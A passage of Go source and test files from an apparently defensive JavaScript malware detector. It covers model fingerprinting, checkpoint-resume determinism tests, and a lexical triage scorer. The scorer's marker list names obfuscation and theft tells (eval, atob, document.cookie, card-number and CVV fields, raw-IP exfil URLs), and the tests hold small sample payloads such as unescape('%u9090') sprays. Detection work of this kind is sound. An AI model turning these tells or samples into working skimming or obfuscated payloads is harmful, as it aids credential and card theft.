	if !ok {
		return nil, ErrNotPersistable
	}
	return json.Marshal(detectorJSON{
		Options:             d.opts,
		Model:               d.model,
		Features:            d.features,
		Forest:              rf,
		OutlierDetectorName: d.OutlierDetectorName,
	})
}

// UnmarshalJSON deserializes a detector.
func (d *Detector) UnmarshalJSON(data []byte) error {
	var dj detectorJSON
	if err := json.Unmarshal(data, &dj); err != nil {
		return err
	}
	if dj.Model == nil || dj.Forest == nil {
		return errors.New("core: malformed detector file")
	}
	d.opts = dj.Options
	d.model = dj.Model
	d.features = dj.Features
	d.classifier = dj.Forest
	d.OutlierDetectorName = dj.OutlierDetectorName
	return nil
}

// Fingerprint returns a hex SHA-256 digest over the detector's learned
// state — embedding model, cluster features, and random forest — excluding
// Options. Because every knob excluded is either runtime configuration
// (TrainWorkers) or already reflected in the learned state, two fits agree
// on Fingerprint exactly when they learned bit-identical parameters: the
// determinism suite uses this to assert that worker counts and checkpoint
// resumes never change the model. It returns ErrNotPersistable for
// classifiers other than the random forest.
func (d *Detector) Fingerprint() (string, error) {
	rf, ok := d.classifier.(*classify.RandomForest)
	if !ok {
		return "", ErrNotPersistable
	}
	h := sha256.New()
	enc := json.NewEncoder(h)
	for _, part := range []any{d.model, d.features, rf} {
		if err := enc.Encode(part); err != nil {
			return "", fmt.Errorf("core: fingerprint: %w", err)
		}
	}
	return hex.EncodeToString(h.Sum(nil)), nil
}

// Save writes the detector to a JSON file.
func (d *Detector) Save(path string) error {
	data, err := json.Marshal(d)
	if err != nil {
		return fmt.Errorf("core: save: %w", err)
	}
	return os.WriteFile(path, data, 0o644)
}

// Load reads a detector from a JSON file written by Save.
func Load(path string) (*Detector, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, fmt.Errorf("core: load: %w", err)
	}
	var d Detector
	if err := json.Unmarshal(data, &d); err != nil {
		return nil, fmt.Errorf("core: load %s: %w", path, err)
	}
	return &d, nil
}
