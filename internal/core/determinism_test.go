package core

import (
	"context"
	"errors"
	"os"
	"runtime"
	"testing"
)

// determinismOptions is smallOptions plus minibatch pre-training, the
// configuration under which TrainWorkers exercises every parallel stage
// (per-sample SGD would keep pre-training serial regardless).
func determinismOptions(seed int64, workers int) Options {
	opts := smallOptions(seed)
	opts.Embedding.BatchSize = 4
	opts.TrainWorkers = workers
	return opts
}

func fingerprintWithWorkers(t *testing.T, train []Sample, workers int) string {
	t.Helper()
	det, err := Train(train, nil, determinismOptions(5, workers))
	if err != nil {
		t.Fatalf("Train(workers=%d): %v", workers, err)
	}
	fp, err := det.Fingerprint()
	if err != nil {
		t.Fatalf("Fingerprint(workers=%d): %v", workers, err)
	}
	return fp
}

// TestFingerprintIndependentOfWorkers is the tentpole determinism contract:
// the fitted detector is bit-identical at any TrainWorkers count.
func TestFingerprintIndependentOfWorkers(t *testing.T) {
	train, _ := smallSplit(t, 40, 5)
	base := fingerprintWithWorkers(t, train, 1)
	for _, w := range []int{4, runtime.NumCPU()} {
		if fp := fingerprintWithWorkers(t, train, w); fp != base {
			t.Errorf("TrainWorkers=%d fingerprint %s, want %s (workers=1)", w, fp, base)
		}
	}
}

// TestResumeMatchesFreshFit asserts that resuming from each checkpoint
// stage reproduces the fresh fit bit for bit.
func TestResumeMatchesFreshFit(t *testing.T) {
	train, _ := smallSplit(t, 40, 5)
	opts := determinismOptions(5, 2)
	dir := t.TempDir()

	p, err := PrepareCheckpointed(context.Background(), train, nil, opts,
		CheckpointConfig{Dir: dir})
	if err != nil {
		t.Fatalf("PrepareCheckpointed: %v", err)
	}
	fresh, err := p.Build(opts.KBenign, opts.KMalicious, nil)
	if err != nil {
		t.Fatalf("Build: %v", err)
	}
	want, err := fresh.Fingerprint()
	if err != nil {
		t.Fatalf("Fingerprint: %v", err)
	}

	// Resuming from each stage means deleting the later stage files so
	// loadLatest falls back; every entry point must land on the same model.
	cases := []struct {
		name   string
		remove []CheckpointStage
	}{
		{"from-prepared", nil},
		{"from-embedded", []CheckpointStage{StagePrepared}},
		{"from-extracted", []CheckpointStage{StagePrepared, StageEmbedded}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			for _, stage := range tc.remove {
				if err := os.Remove(CheckpointPath(dir, stage)); err != nil && !errors.Is(err, os.ErrNotExist) {
					t.Fatalf("remove %s: %v", stage, err)
				}
			}
			rp, err := PrepareCheckpointed(context.Background(), train, nil, opts,
				CheckpointConfig{Dir: dir, Resume: true})
			if err != nil {
				t.Fatalf("resume: %v", err)
			}
			det, err := rp.Build(opts.KBenign, opts.KMalicious, nil)
			if err != nil {
				t.Fatalf("Build: %v", err)
			}
			fp, err := det.Fingerprint()
			if err != nil {
				t.Fatalf("Fingerprint: %v", err)
			}
			if fp != want {
				t.Errorf("resume fingerprint %s, want fresh %s", fp, want)
			}
		})
	}
}

// TestResumeRejectsDifferentCorpus: path keys in a checkpoint are only
// valid for the corpus that produced them, so resume must fail loudly.
func TestResumeRejectsDifferentCorpus(t *testing.T) {
	train, _ := smallSplit(t, 40, 5)
	opts := determinismOptions(5, 2)
	dir := t.TempDir()
	if _, err := PrepareCheckpointed(context.Background(), train, nil, opts,
		CheckpointConfig{Dir: dir}); err != nil {
		t.Fatalf("PrepareCheckpointed: %v", err)
	}
	other, _ := smallSplit(t, 40, 99)
	_, err := PrepareCheckpointed(context.Background(), other, nil, opts,
		CheckpointConfig{Dir: dir, Resume: true})
	if err == nil {
		t.Fatal("resume with a different corpus succeeded; want digest error")
	}
}

// TestResumeRejectsDifferentOptions: preparation-shaping options are part
// of the checkpoint identity; Build-time and parallelism knobs are not.
func TestResumeRejectsDifferentOptions(t *testing.T) {
	train, _ := smallSplit(t, 40, 5)
	opts := determinismOptions(5, 2)
	dir := t.TempDir()
	if _, err := PrepareCheckpointed(context.Background(), train, nil, opts,
		CheckpointConfig{Dir: dir}); err != nil {
		t.Fatalf("PrepareCheckpointed: %v", err)
	}

	changed := opts
	changed.Embedding.Epochs++
	if _, err := PrepareCheckpointed(context.Background(), train, nil, changed,
		CheckpointConfig{Dir: dir, Resume: true}); err == nil {
		t.Error("resume with different embedding epochs succeeded; want digest error")
	}

	// Worker count and K values must NOT invalidate checkpoints.
	compatible := opts
	compatible.TrainWorkers = 7
	compatible.KBenign, compatible.KMalicious = 4, 4
	if _, err := PrepareCheckpointed(context.Background(), train, nil, compatible,
		CheckpointConfig{Dir: dir, Resume: true}); err != nil {
		t.Errorf("resume with different workers/K failed: %v", err)
	}
}

// TestPrepareCtxCancelled: a pre-cancelled context aborts the fit promptly
// instead of running stages to completion.
func TestPrepareCtxCancelled(t *testing.T) {
	train, _ := smallSplit(t, 40, 5)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, err := PrepareCtx(ctx, train, nil, determinismOptions(5, 2))
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("PrepareCtx on cancelled ctx: err = %v, want context.Canceled", err)
	}
}

// TestResumeRequiresDir guards the CLI contract.
func TestResumeRequiresDir(t *testing.T) {
	train, _ := smallSplit(t, 40, 5)
	_, err := PrepareCheckpointed(context.Background(), train, nil, determinismOptions(5, 1),
		CheckpointConfig{Resume: true})
	if err == nil {
		t.Fatal("Resume without Dir succeeded; want error")
	}
}
