package triage

import (
	"fmt"
	"sort"
	"testing"

	"jsrevealer/internal/corpus"
	"jsrevealer/internal/obfuscate"
)

// TestScoreDistributions logs the suspicion-score distributions that back
// DefaultThreshold and the EXPERIMENTS.md sweep. Run with -v to see them.
func TestScoreDistributions(t *testing.T) {
	s := New(Config{Threshold: DefaultThreshold})

	report := func(name string, scores []float64) {
		sort.Float64s(scores)
		q := func(p float64) float64 { return scores[int(p*float64(len(scores)-1))] }
		below := 0
		for _, v := range scores {
			if v < DefaultThreshold {
				below++
			}
		}
		t.Logf("%-28s n=%3d min=%.3f p10=%.3f p50=%.3f p90=%.3f max=%.3f clear@%.2f=%d (%.0f%%)",
			name, len(scores), scores[0], q(0.10), q(0.50), q(0.90), scores[len(scores)-1],
			DefaultThreshold, below, 100*float64(below)/float64(len(scores)))
	}

	collect := func(samples []corpus.Sample, wantMal bool) []float64 {
		var out []float64
		for _, smp := range samples {
			if smp.Malicious == wantMal {
				out = append(out, s.Score(smp.Source).Suspicion)
			}
		}
		return out
	}

	pristine := corpus.Generate(corpus.Config{Benign: 120, Malicious: 120, Seed: 7, Pristine: true})
	mixed := corpus.Generate(corpus.Config{Benign: 120, Malicious: 120, Seed: 8})
	report("benign/pristine", collect(pristine, false))
	report("benign/mixed", collect(mixed, false))
	report("malicious/pristine", collect(pristine, true))
	report("malicious/mixed", collect(mixed, true))

	for _, name := range obfuscate.PaperOrder() {
		ob := obfuscate.Registry(3)[name]
		var scores []float64
		for _, smp := range pristine {
			o, err := ob.Obfuscate(smp.Source)
			if err != nil {
				continue
			}
			scores = append(scores, s.Score(o).Suspicion)
		}
		report(fmt.Sprintf("obf/%s", name), scores)
	}
}
