package triage

import (
	"strings"
	"testing"
)

// BenchmarkTriage measures the Stage-0 cost per script on representative
// benign boilerplate — the price every scan pays before the tier decides.
// The budget is microseconds against the full pipeline's ~0.8ms.
func BenchmarkTriage(b *testing.B) {
	s := New(Config{Threshold: DefaultThreshold})
	src := strings.Repeat(benignSample, 4) // ~2.5KB, typical script size
	b.SetBytes(int64(len(src)))
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if s.Clear(src) == false {
			b.Fatal("benchmark input escalated")
		}
	}
}

// BenchmarkTriageEscalate is the marker-dense worst case: the scorer still
// pays one pass, then the pipeline takes over.
func BenchmarkTriageEscalate(b *testing.B) {
	s := New(Config{Threshold: DefaultThreshold})
	src := strings.Repeat(benignSample+"eval(atob(x));\n", 4)
	b.SetBytes(int64(len(src)))
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if s.Clear(src) {
			b.Fatal("benchmark input cleared")
		}
	}
}
