// Package triage is the Stage-0 tier of the scan pipeline: a single-pass,
// allocation-free lexical scanner that separates obviously-benign scripts
// from everything that deserves the full parse → path-context → embed →
// classify pipeline. The JSRevealer paper's own premise is that obfuscation
// leaves loud lexical fingerprints — high byte entropy, eval/atob density,
// hex- and base64-encoded blobs, machine-generated identifiers — and
// ScriptNet-style sequence detectors show such signals need no parse at
// all. Triage measures them in one bounded pass over the raw bytes (a few
// microseconds for typical scripts, versus ~0.8ms for the full pipeline)
// and emits a bounded suspicion score in [0, 1].
//
// The contract is deliberately asymmetric: a script scoring at or above the
// escalation threshold pays the full pipeline exactly as before, so a false
// *positive* costs only the microseconds triage spent. A false *negative* —
// a malicious script cleared as benign — is the failure mode that matters,
// so the scorer is tuned loud: every signal any of the repo's obfuscators
// or malicious corpus families emits trips it (asserted by the adversarial
// suite in adversarial_test.go), inputs too short to measure always
// escalate, and so do inputs whose lexical shape suggests the parser would
// struggle (escape floods, degenerate repetition, binary garbage) — those
// must reach the hardened engine's guards and fallback, not be waved
// through.
package triage

import "math"

// Defaults for Config zero values.
const (
	// DefaultThreshold is the tuned escalation threshold: the suspicion
	// score at or above which a script escalates to the full pipeline.
	// EXPERIMENTS.md records the threshold sweep behind this value — at 0.30
	// the malicious corpus (raw, transformed, and all four obfuscators)
	// escalates with zero false negatives while the bulk of pristine benign
	// boilerplate clears.
	DefaultThreshold = 0.30
	// DefaultMaxBytes caps the bytes one Score examines. Suspicion answers
	// for the scanned prefix; anything a 128KiB prefix cannot vouch for is
	// the full pipeline's problem (the scan engine's own MaxBytes guard
	// still applies to escalated content).
	DefaultMaxBytes = 128 << 10
	// DefaultMinBytes is the floor below which scripts always escalate:
	// lexical statistics over a handful of bytes are meaningless, and a
	// tiny script costs the full pipeline almost nothing anyway.
	DefaultMinBytes = 64
)

// Config tunes the triage tier. The zero value disables it: a Threshold of
// 0 (or less) means every script escalates, which is exactly the pipeline's
// pre-triage behaviour.
type Config struct {
	// Threshold is the suspicion score in (0, 1] at or above which a script
	// escalates to the full pipeline; scripts scoring below it are cleared
	// as benign by the triage tier. <= 0 disables triage entirely.
	Threshold float64
	// MaxBytes caps the bytes examined per script; <= 0 means
	// DefaultMaxBytes.
	MaxBytes int
	// MinBytes is the size floor below which scripts always escalate;
	// <= 0 means DefaultMinBytes.
	MinBytes int
}

// Enabled reports whether this configuration clears anything at all.
func (c Config) Enabled() bool { return c.Threshold > 0 }

func (c Config) withDefaults() Config {
	if c.MaxBytes <= 0 {
		c.MaxBytes = DefaultMaxBytes
	}
	if c.MinBytes <= 0 {
		c.MinBytes = DefaultMinBytes
	}
	return c
}

// Score is the decomposed lexical measurement of one script. Suspicion is
// the bounded headline number; the component fields exist so operators (and
// the threshold-sweep experiment) can see *why* a script escalated.
type Score struct {
	// Bytes is how many bytes were examined (the MaxBytes-capped prefix).
	Bytes int
	// Entropy is the Shannon entropy of the examined bytes, in bits/byte.
	Entropy float64
	// MarkerWeight is the capped, weighted count of dynamic-code and
	// decoder markers (eval(, new Function, atob(, unescape(,
	// fromCharCode, document.write, ActiveXObject, ...).
	MarkerWeight float64
	// EscapeCount counts \x, \u, and %u escape sequences — the hex/unicode
	// escape floods packers emit.
	EscapeCount int
	// EncodedStringBytes counts bytes inside long string literals made
	// exclusively of base64/hex alphabet characters.
	EncodedStringBytes int
	// StringBytes counts all bytes inside string literals.
	StringBytes int
	// MaxStringLen is the longest string literal seen.
	MaxStringLen int
	// IdentCount and SuspiciousIdents drive the identifier-obfuscation
	// ratio: `_0x` hex names, names with interior `$` separators, random-
	// case gibberish, and very long machine-generated names count as
	// suspicious.
	IdentCount, SuspiciousIdents int
	// ConcatSplits counts string-literal concatenation seams ("ev" + "al"
	// shapes): string-splitting obfuscation produces them in bulk.
	ConcatSplits int
	// WeirdBytes counts control and non-ASCII bytes outside the ordinary
	// source-text repertoire.
	WeirdBytes int
	// Repetition is the highest short-period self-similarity ratio (period
	// 1–4) over non-space bytes: degenerate inputs like `((((((` or
	// `new new new ...` approach 1.0.
	Repetition float64
	// Suspicion is the bounded combination of the above in [0, 1].
	Suspicion float64
}

// Scorer scores scripts under one Config. It is stateless between calls
// and safe for concurrent use.
type Scorer struct {
	cfg Config
}

// New builds a scorer; zero cfg fields other than Threshold take the
// package defaults.
func New(cfg Config) *Scorer {
	return &Scorer{cfg: cfg.withDefaults()}
}

// Config returns the scorer's effective (defaulted) configuration.
func (s *Scorer) Config() Config { return s.cfg }

// Clear reports whether triage clears src as benign: the configuration is
// enabled, the script is long enough to measure, and its suspicion score
// falls below the threshold. Everything else escalates.
func (s *Scorer) Clear(src string) bool {
	if !s.cfg.Enabled() || len(src) < s.cfg.MinBytes {
		return false
	}
	return s.Score(src).Suspicion < s.cfg.Threshold
}

// markers are the dynamic-code, decoder, and environment-probing substrings
// whose density the paper's background section (and the ZOZZLE/JSTAP
// lineage) treats as the classic drive-by tells. Matching is case-sensitive
// because JavaScript is: a working payload must spell eval in lowercase.
var markers = [...]struct {
	text   string
	weight float64
	// digitAfter additionally requires a decimal digit right after the
	// match: `http://` + digit is a raw-IP URL, the classic
	// compromised-site beacon/exfil shape, while `http://` + hostname is
	// everyday code.
	digitAfter bool
}{
	{text: "eval(", weight: 1.5},
	{text: "unescape(", weight: 1.5},
	{text: "fromCharCode", weight: 1.0},
	{text: "new Function", weight: 1.5},
	{text: "atob(", weight: 1.5},
	{text: "btoa(", weight: 0.5},
	{text: "execScript", weight: 2.0},
	{text: "ActiveXObject", weight: 2.0},
	{text: "WScript.", weight: 2.0},
	{text: "document.write(", weight: 1.0},
	{text: "document.cookie", weight: 1.0},
	{text: "document.hidden", weight: 1.0},
	{text: "charCodeAt", weight: 0.5},
	{text: "setTimeout(", weight: 0.25},
	{text: "setInterval(", weight: 0.25},
	{text: "CryptoJS.", weight: 1.0},
	{text: "shellexecute", weight: 2.5},
	{text: "callPhantom", weight: 1.5},
	{text: "navigator.", weight: 0.75},
	{text: "hardwareConcurrency", weight: 1.0},
	{text: "visibilitychange", weight: 1.0},
	{text: "cardnumber", weight: 1.5},
	{text: "cardholder", weight: 1.0},
	{text: "cvv", weight: 1.5},
	{text: "http://", weight: 2.0, digitAfter: true},
	{text: "https://", weight: 2.0, digitAfter: true},
	// Character-level string surgery: split-to-chars / rejoin-with-nothing
	// is how reversed or chunked payloads get reassembled at runtime.
	{text: `split("")`, weight: 1.0},
	{text: `reverse()`, weight: 0.75},
	{text: `join("")`, weight: 0.75},
	{text: `split('')`, weight: 1.0},
	{text: `join('')`, weight: 0.75},
}

// markerCap bounds each marker's counted occurrences so one repeated token
// cannot dominate unboundedly.
const markerCap = 4

// markerIndex maps a first byte to the candidate marker indices starting
// with it, so the per-byte dispatch is one table load for the overwhelming
// majority of bytes that begin no marker.
var markerIndex [256][]uint8

func init() {
	for i, m := range markers {
		b := m.text[0]
		markerIndex[b] = append(markerIndex[b], uint8(i))
	}
}

// byte classification tables, precomputed so the scan loop is pure table
// lookups. identChar covers ASCII identifier constituents; b64Char the
// base64 alphabet (hex strings are a subset).
var (
	identChar [256]bool
	b64Char   [256]bool
)

func init() {
	for c := byte('a'); c <= 'z'; c++ {
		identChar[c] = true
	}
	for c := byte('A'); c <= 'Z'; c++ {
		identChar[c] = true
	}
	for c := byte('0'); c <= '9'; c++ {
		identChar[c] = true
	}
	identChar['_'], identChar['$'] = true, true
	for c := byte('a'); c <= 'z'; c++ {
		b64Char[c] = true
	}
	for c := byte('A'); c <= 'Z'; c++ {
		b64Char[c] = true
	}
	for c := byte('0'); c <= '9'; c++ {
		b64Char[c] = true
	}
	b64Char['+'], b64Char['/'] = true, true
	b64Char['='] = true
}

// encodedStringMin is the length past which an all-base64/hex string
// literal counts as an encoded blob.
const encodedStringMin = 24

// Score measures src in one bounded pass. It allocates nothing, never
// panics on arbitrary bytes (the adversarial and fuzz suites pin both), and
// its cost is linear in min(len(src), MaxBytes).
func (s *Scorer) Score(src string) Score {
	if n := s.cfg.MaxBytes; len(src) > n {
		src = src[:n]
	}
	sc := Score{Bytes: len(src)}
	if len(src) == 0 {
		// Nothing measurable; Clear already escalates short inputs, and an
		// explicit zero score keeps the fuzz contract trivial.
		return sc
	}

	var hist [256]int32
	// rep[k] counts positions whose byte equals the byte k back, over
	// non-space bytes; repN is the comparison base.
	var rep [5]int
	repN := 0

	// String-literal state.
	var quote byte   // 0 = not in a string; otherwise ' " or `
	escaped := false // previous byte was a backslash inside a string
	curLen := 0      // current literal's length
	curB64 := true   // current literal is all base64/hex alphabet so far

	// Identifier state (outside strings).
	identLen := 0
	identHexName := false // matches the _0x machine-name prefix
	identDollars := 0     // interior `$` separators ($fog$xxxx shapes)
	caseFlips := 0        // upper/lower alternations (random-case gibberish)
	lastCase := 0         // 1 = lower, 2 = upper, 0 = neither yet

	// Concat-seam state: 1 = just closed a string literal, 2 = saw `+`
	// after it; an opening quote in state 2 is one split seam.
	seam := 0

	closeString := func() {
		sc.StringBytes += curLen
		if curLen > sc.MaxStringLen {
			sc.MaxStringLen = curLen
		}
		if curB64 && curLen >= encodedStringMin {
			sc.EncodedStringBytes += curLen
		}
		quote, curLen, curB64 = 0, 0, true
	}
	closeIdent := func() {
		if identLen > 0 {
			sc.IdentCount++
			switch {
			case identHexName && identLen > 3: // _0x…
				sc.SuspiciousIdents++
			case identLen >= 24: // machine-generated mega-name
				sc.SuspiciousIdents++
			case identDollars > 0 && identLen >= 5: // $fog$xxxx shapes
				sc.SuspiciousIdents++
			case identLen >= 6 && caseFlips*2 >= identLen: // aKqRtz gibberish
				sc.SuspiciousIdents++
			}
		}
		identLen, identHexName = 0, false
		identDollars, caseFlips, lastCase = 0, 0, 0
	}

	// matchMarkers runs the first-byte dispatch at a word-start offset.
	n := len(src)
	matchMarkers := func(i int, c byte) {
		for _, mi := range markerIndex[c] {
			m := &markers[mi]
			if !matchAt(src, i, m.text) {
				continue
			}
			if m.digitAfter {
				j := i + len(m.text)
				if j >= n || src[j] < '0' || src[j] > '9' {
					continue
				}
			}
			sc.MarkerWeight += m.weight
			break
		}
	}

	prevIdent := false
	for i := 0; i < n; i++ {
		c := src[i]
		hist[c]++
		wordStart := identChar[c] && !prevIdent
		prevIdent = identChar[c]

		// Short-period self-similarity over non-space bytes: degenerate
		// parser-killers ((((((…, !!!!!…, 1?1?1?…, new new new …) light
		// this up without tripping on ordinary indentation runs.
		if c != ' ' && c != '\t' && c != '\n' && c != '\r' {
			if i >= 4 {
				repN++
				for k := 1; k <= 4; k++ {
					if src[i-k] == c {
						rep[k]++
					}
				}
			}
		}

		if c < 9 || (c > 13 && c < 32) || c >= 0x7f {
			sc.WeirdBytes++
		}

		if quote != 0 {
			// Inside a string literal. Markers still count: the tells that
			// live in string data (payment-field names, event names, raw-IP
			// URLs) are exactly the ones obfuscators cannot move elsewhere.
			if wordStart && !escaped {
				matchMarkers(i, c)
			}
			curLen++
			if escaped {
				escaped = false
				if c == 'x' || c == 'u' {
					sc.EscapeCount++
				}
				curB64 = false
				continue
			}
			switch {
			case c == '\\':
				escaped = true
			case c == quote:
				curLen-- // the closing quote is not content
				closeString()
				seam = 1
			case quote != '`' && (c == '\n' || c == '\r'):
				// An unterminated single- or double-quoted literal ends at
				// the line break (the lexer would reject it anyway).
				closeString()
			default:
				if !b64Char[c] {
					curB64 = false
				}
			}
			continue
		}

		// Outside strings: identifier tracking, string openings, markers.
		if identChar[c] {
			if wordStart {
				// Every marker begins with an identifier character, so word
				// starts are the only anchors that can begin one.
				matchMarkers(i, c)
			}
			identLen++
			switch identLen {
			case 1:
				identHexName = c == '_'
			case 2:
				identHexName = identHexName && c == '0'
			case 3:
				identHexName = identHexName && c == 'x'
			}
			if c == '$' && identLen > 1 {
				identDollars++
			}
			switch {
			case c >= 'a' && c <= 'z':
				if lastCase == 2 {
					caseFlips++
				}
				lastCase = 1
			case c >= 'A' && c <= 'Z':
				if lastCase == 1 {
					caseFlips++
				}
				lastCase = 2
			}
			seam = 0
			// A 1–2 byte "identifier" ending here is ordinary (i, j, el);
			// the suspicious shapes are decided at close.
			continue
		}
		closeIdent()

		switch c {
		case '\'', '"', '`':
			if seam == 2 {
				sc.ConcatSplits++
			}
			seam = 0
			quote, curLen, curB64 = c, 0, true
			continue
		case ' ', '\t', '\n', '\r':
			// Whitespace keeps the concat-seam state alive.
			continue
		case '+':
			if seam == 1 {
				seam = 2
				continue
			}
		case '\\':
			// Escape outside a string (regex or broken input); \x / \u
			// floods count wherever they appear.
			if i+1 < n && (src[i+1] == 'x' || src[i+1] == 'u') {
				sc.EscapeCount++
			}
		case '%':
			if i+1 < n && src[i+1] == 'u' {
				sc.EscapeCount++
			}
		}
		seam = 0
	}
	if quote != 0 {
		closeString()
	}
	closeIdent()
	if sc.MarkerWeight > markerCap*2.5 {
		sc.MarkerWeight = markerCap * 2.5
	}

	// Entropy over the byte histogram.
	total := float64(len(src))
	for _, c := range hist {
		if c == 0 {
			continue
		}
		p := float64(c) / total
		sc.Entropy -= p * math.Log2(p)
	}
	if repN > 0 {
		best := 0
		for k := 1; k <= 4; k++ {
			if rep[k] > best {
				best = rep[k]
			}
		}
		sc.Repetition = float64(best) / float64(repN)
	}

	sc.Suspicion = s.combine(&sc)
	return sc
}

// combine folds the component measurements into the bounded suspicion
// score. Weights are tuned against the repo's corpora (see the sweep in
// EXPERIMENTS.md); each component is individually clamped so no single
// signal can push the sum past what its weight allows.
func (s *Scorer) combine(sc *Score) float64 {
	n := float64(sc.Bytes)
	v := 0.0

	// Entropy: packed/encoded blobs push past ~5.4 bits/byte; degenerate
	// repetition drags below ~3.2. Ordinary source sits in between.
	if sc.Bytes >= 256 {
		v += 0.45 * clamp01((sc.Entropy-5.3)/0.5)
		v += 0.45 * clamp01((3.2-sc.Entropy)/1.0)
	}
	// Marker density: a couple of weighted hits is already worth
	// escalating for.
	v += 0.60 * clamp01(sc.MarkerWeight/3.0)
	// Escape floods: \x41\x41… and %u9090 sleds.
	v += 0.50 * clamp01(float64(sc.EscapeCount)/48.0)
	// Encoded blobs: long base64/hex-only literals relative to size.
	v += 0.45 * clamp01(4.0*float64(sc.EncodedStringBytes)/n)
	// Very long single literals (spray blocks, inlined payloads).
	v += 0.30 * clamp01((float64(sc.MaxStringLen)-512)/2048)
	// Machine-generated identifiers (_0x…, $fog$…, random-case gibberish):
	// both as a fraction of all names and in absolute density, so a thin
	// obfuscation layer over mostly-untouched code still registers.
	if sc.IdentCount > 0 {
		v += 0.50 * clamp01(3.0*float64(sc.SuspiciousIdents)/float64(sc.IdentCount))
	}
	v += 0.40 * clamp01(float64(sc.SuspiciousIdents)/10.0)
	// String-splitting seams ("ev" + "al"): a handful is idiom, dozens per
	// KB is an obfuscator.
	v += 0.45 * clamp01(float64(sc.ConcatSplits)/(4.0+n/200.0))
	// Binary garbage and control characters.
	v += 0.60 * clamp01(20.0*float64(sc.WeirdBytes)/n)
	// Degenerate short-period repetition (parser-killers).
	v += 0.60 * clamp01((sc.Repetition-0.70)/0.20)

	return clamp01(v)
}

// matchAt reports whether pat occurs in s at offset i.
func matchAt(s string, i int, pat string) bool {
	if i+len(pat) > len(s) {
		return false
	}
	return s[i:i+len(pat)] == pat
}

func clamp01(x float64) float64 {
	switch {
	case x < 0:
		return 0
	case x > 1:
		return 1
	}
	return x
}
