package triage

import (
	"math"
	"strings"
	"testing"
)

// benignSample is hand-written boilerplate of the kind triage exists to
// clear: plain identifiers, short strings, no dynamic-code markers.
const benignSample = `
function formatPrice(value, currency) {
  var amount = Math.round(value * 100) / 100;
  return currency + " " + amount.toFixed(2);
}
var cart = [];
function addItem(name, price, qty) {
  cart.push({ name: name, price: price, qty: qty });
  updateTotal();
}
function updateTotal() {
  var total = 0;
  for (var i = 0; i < cart.length; i++) {
    total += cart[i].price * cart[i].qty;
  }
  var label = document.getElementById("total");
  if (label) {
    label.textContent = formatPrice(total, "USD");
  }
}
`

func TestDefaults(t *testing.T) {
	s := New(Config{Threshold: DefaultThreshold})
	cfg := s.Config()
	if cfg.MaxBytes != DefaultMaxBytes || cfg.MinBytes != DefaultMinBytes {
		t.Errorf("defaults not applied: %+v", cfg)
	}
	if !cfg.Enabled() {
		t.Error("threshold set but Enabled() = false")
	}
	if (Config{}).Enabled() {
		t.Error("zero config must be disabled")
	}
	if (Config{Threshold: -1}).Enabled() {
		t.Error("negative threshold must be disabled")
	}
}

func TestDisabledNeverClears(t *testing.T) {
	s := New(Config{}) // Threshold 0: triage off
	if s.Clear(benignSample) {
		t.Error("disabled scorer cleared a script")
	}
}

func TestShortInputsEscalate(t *testing.T) {
	s := New(Config{Threshold: DefaultThreshold})
	for _, src := range []string{"", "x", "var a = 1;", strings.Repeat("a", DefaultMinBytes-1)} {
		if s.Clear(src) {
			t.Errorf("cleared %d-byte input below MinBytes", len(src))
		}
	}
}

func TestBenignClears(t *testing.T) {
	s := New(Config{Threshold: DefaultThreshold})
	if !s.Clear(benignSample) {
		t.Fatalf("benign boilerplate escalated: %+v", s.Score(benignSample))
	}
}

func TestMarkersEscalate(t *testing.T) {
	s := New(Config{Threshold: DefaultThreshold})
	evil := benignSample + `
var payload = unescape("%u9090%u9090");
eval(atob("ZXZpbCgp"));
document.write(unescape(payload));
`
	sc := s.Score(evil)
	if sc.MarkerWeight < 3 {
		t.Errorf("marker weight = %v, want the eval/atob/unescape cluster counted", sc.MarkerWeight)
	}
	if s.Clear(evil) {
		t.Errorf("marker-dense script cleared: %+v", sc)
	}
	// The same markers mid-identifier must NOT count: medieval(, clatob(.
	noisy := strings.ReplaceAll(benignSample, "formatPrice", "medievalPrice")
	if got := s.Score(noisy).MarkerWeight; got != s.Score(benignSample).MarkerWeight {
		t.Errorf("mid-identifier text changed marker weight: %v", got)
	}
}

func TestEntropyBounds(t *testing.T) {
	s := New(Config{Threshold: DefaultThreshold})
	if e := s.Score(strings.Repeat("a", 1024)).Entropy; e != 0 {
		t.Errorf("uniform input entropy = %v, want 0", e)
	}
	// All 256 byte values equally often: exactly 8 bits/byte.
	var b strings.Builder
	for i := 0; i < 4; i++ {
		for c := 0; c < 256; c++ {
			b.WriteByte(byte(c))
		}
	}
	if e := s.Score(b.String()).Entropy; math.Abs(e-8) > 1e-9 {
		t.Errorf("uniform-256 entropy = %v, want 8", e)
	}
}

func TestSuspicionBounded(t *testing.T) {
	s := New(Config{Threshold: DefaultThreshold})
	for _, src := range []string{
		"", benignSample,
		strings.Repeat("eval(unescape(\"%u9090\"));", 500),
		strings.Repeat("\x00\xff", 4096),
		strings.Repeat("_0xab12(", 2000),
	} {
		if v := s.Score(src).Suspicion; v < 0 || v > 1 || math.IsNaN(v) {
			t.Errorf("suspicion %v out of [0,1] for %d-byte input", v, len(src))
		}
	}
}

func TestMaxBytesCapsWork(t *testing.T) {
	s := New(Config{Threshold: DefaultThreshold, MaxBytes: 128})
	long := benignSample + strings.Repeat("eval(", 1000)
	if got := s.Score(long).Bytes; got != 128 {
		t.Errorf("scored %d bytes, want the 128-byte cap", got)
	}
}

func TestEncodedStringDetection(t *testing.T) {
	s := New(Config{Threshold: DefaultThreshold})
	src := `var blob = "aGVsbG8gd29ybGQgdGhpcyBpcyBhIGxvbmcgYmFzZTY0IHBheWxvYWQ=";`
	sc := s.Score(src)
	if sc.EncodedStringBytes == 0 {
		t.Errorf("base64 literal not counted: %+v", sc)
	}
	if sc.MaxStringLen < 40 {
		t.Errorf("max string len = %d", sc.MaxStringLen)
	}
	// Ordinary prose strings must not count as encoded.
	if got := s.Score(`var msg = "please enter a valid email address";`).EncodedStringBytes; got != 0 {
		t.Errorf("prose counted as encoded: %d", got)
	}
}

func TestConcatSplitSeams(t *testing.T) {
	s := New(Config{Threshold: DefaultThreshold})
	sc := s.Score(`var x = "e" + "v" + "a" + "l" + "(" + "1" + ")";`)
	if sc.ConcatSplits != 6 {
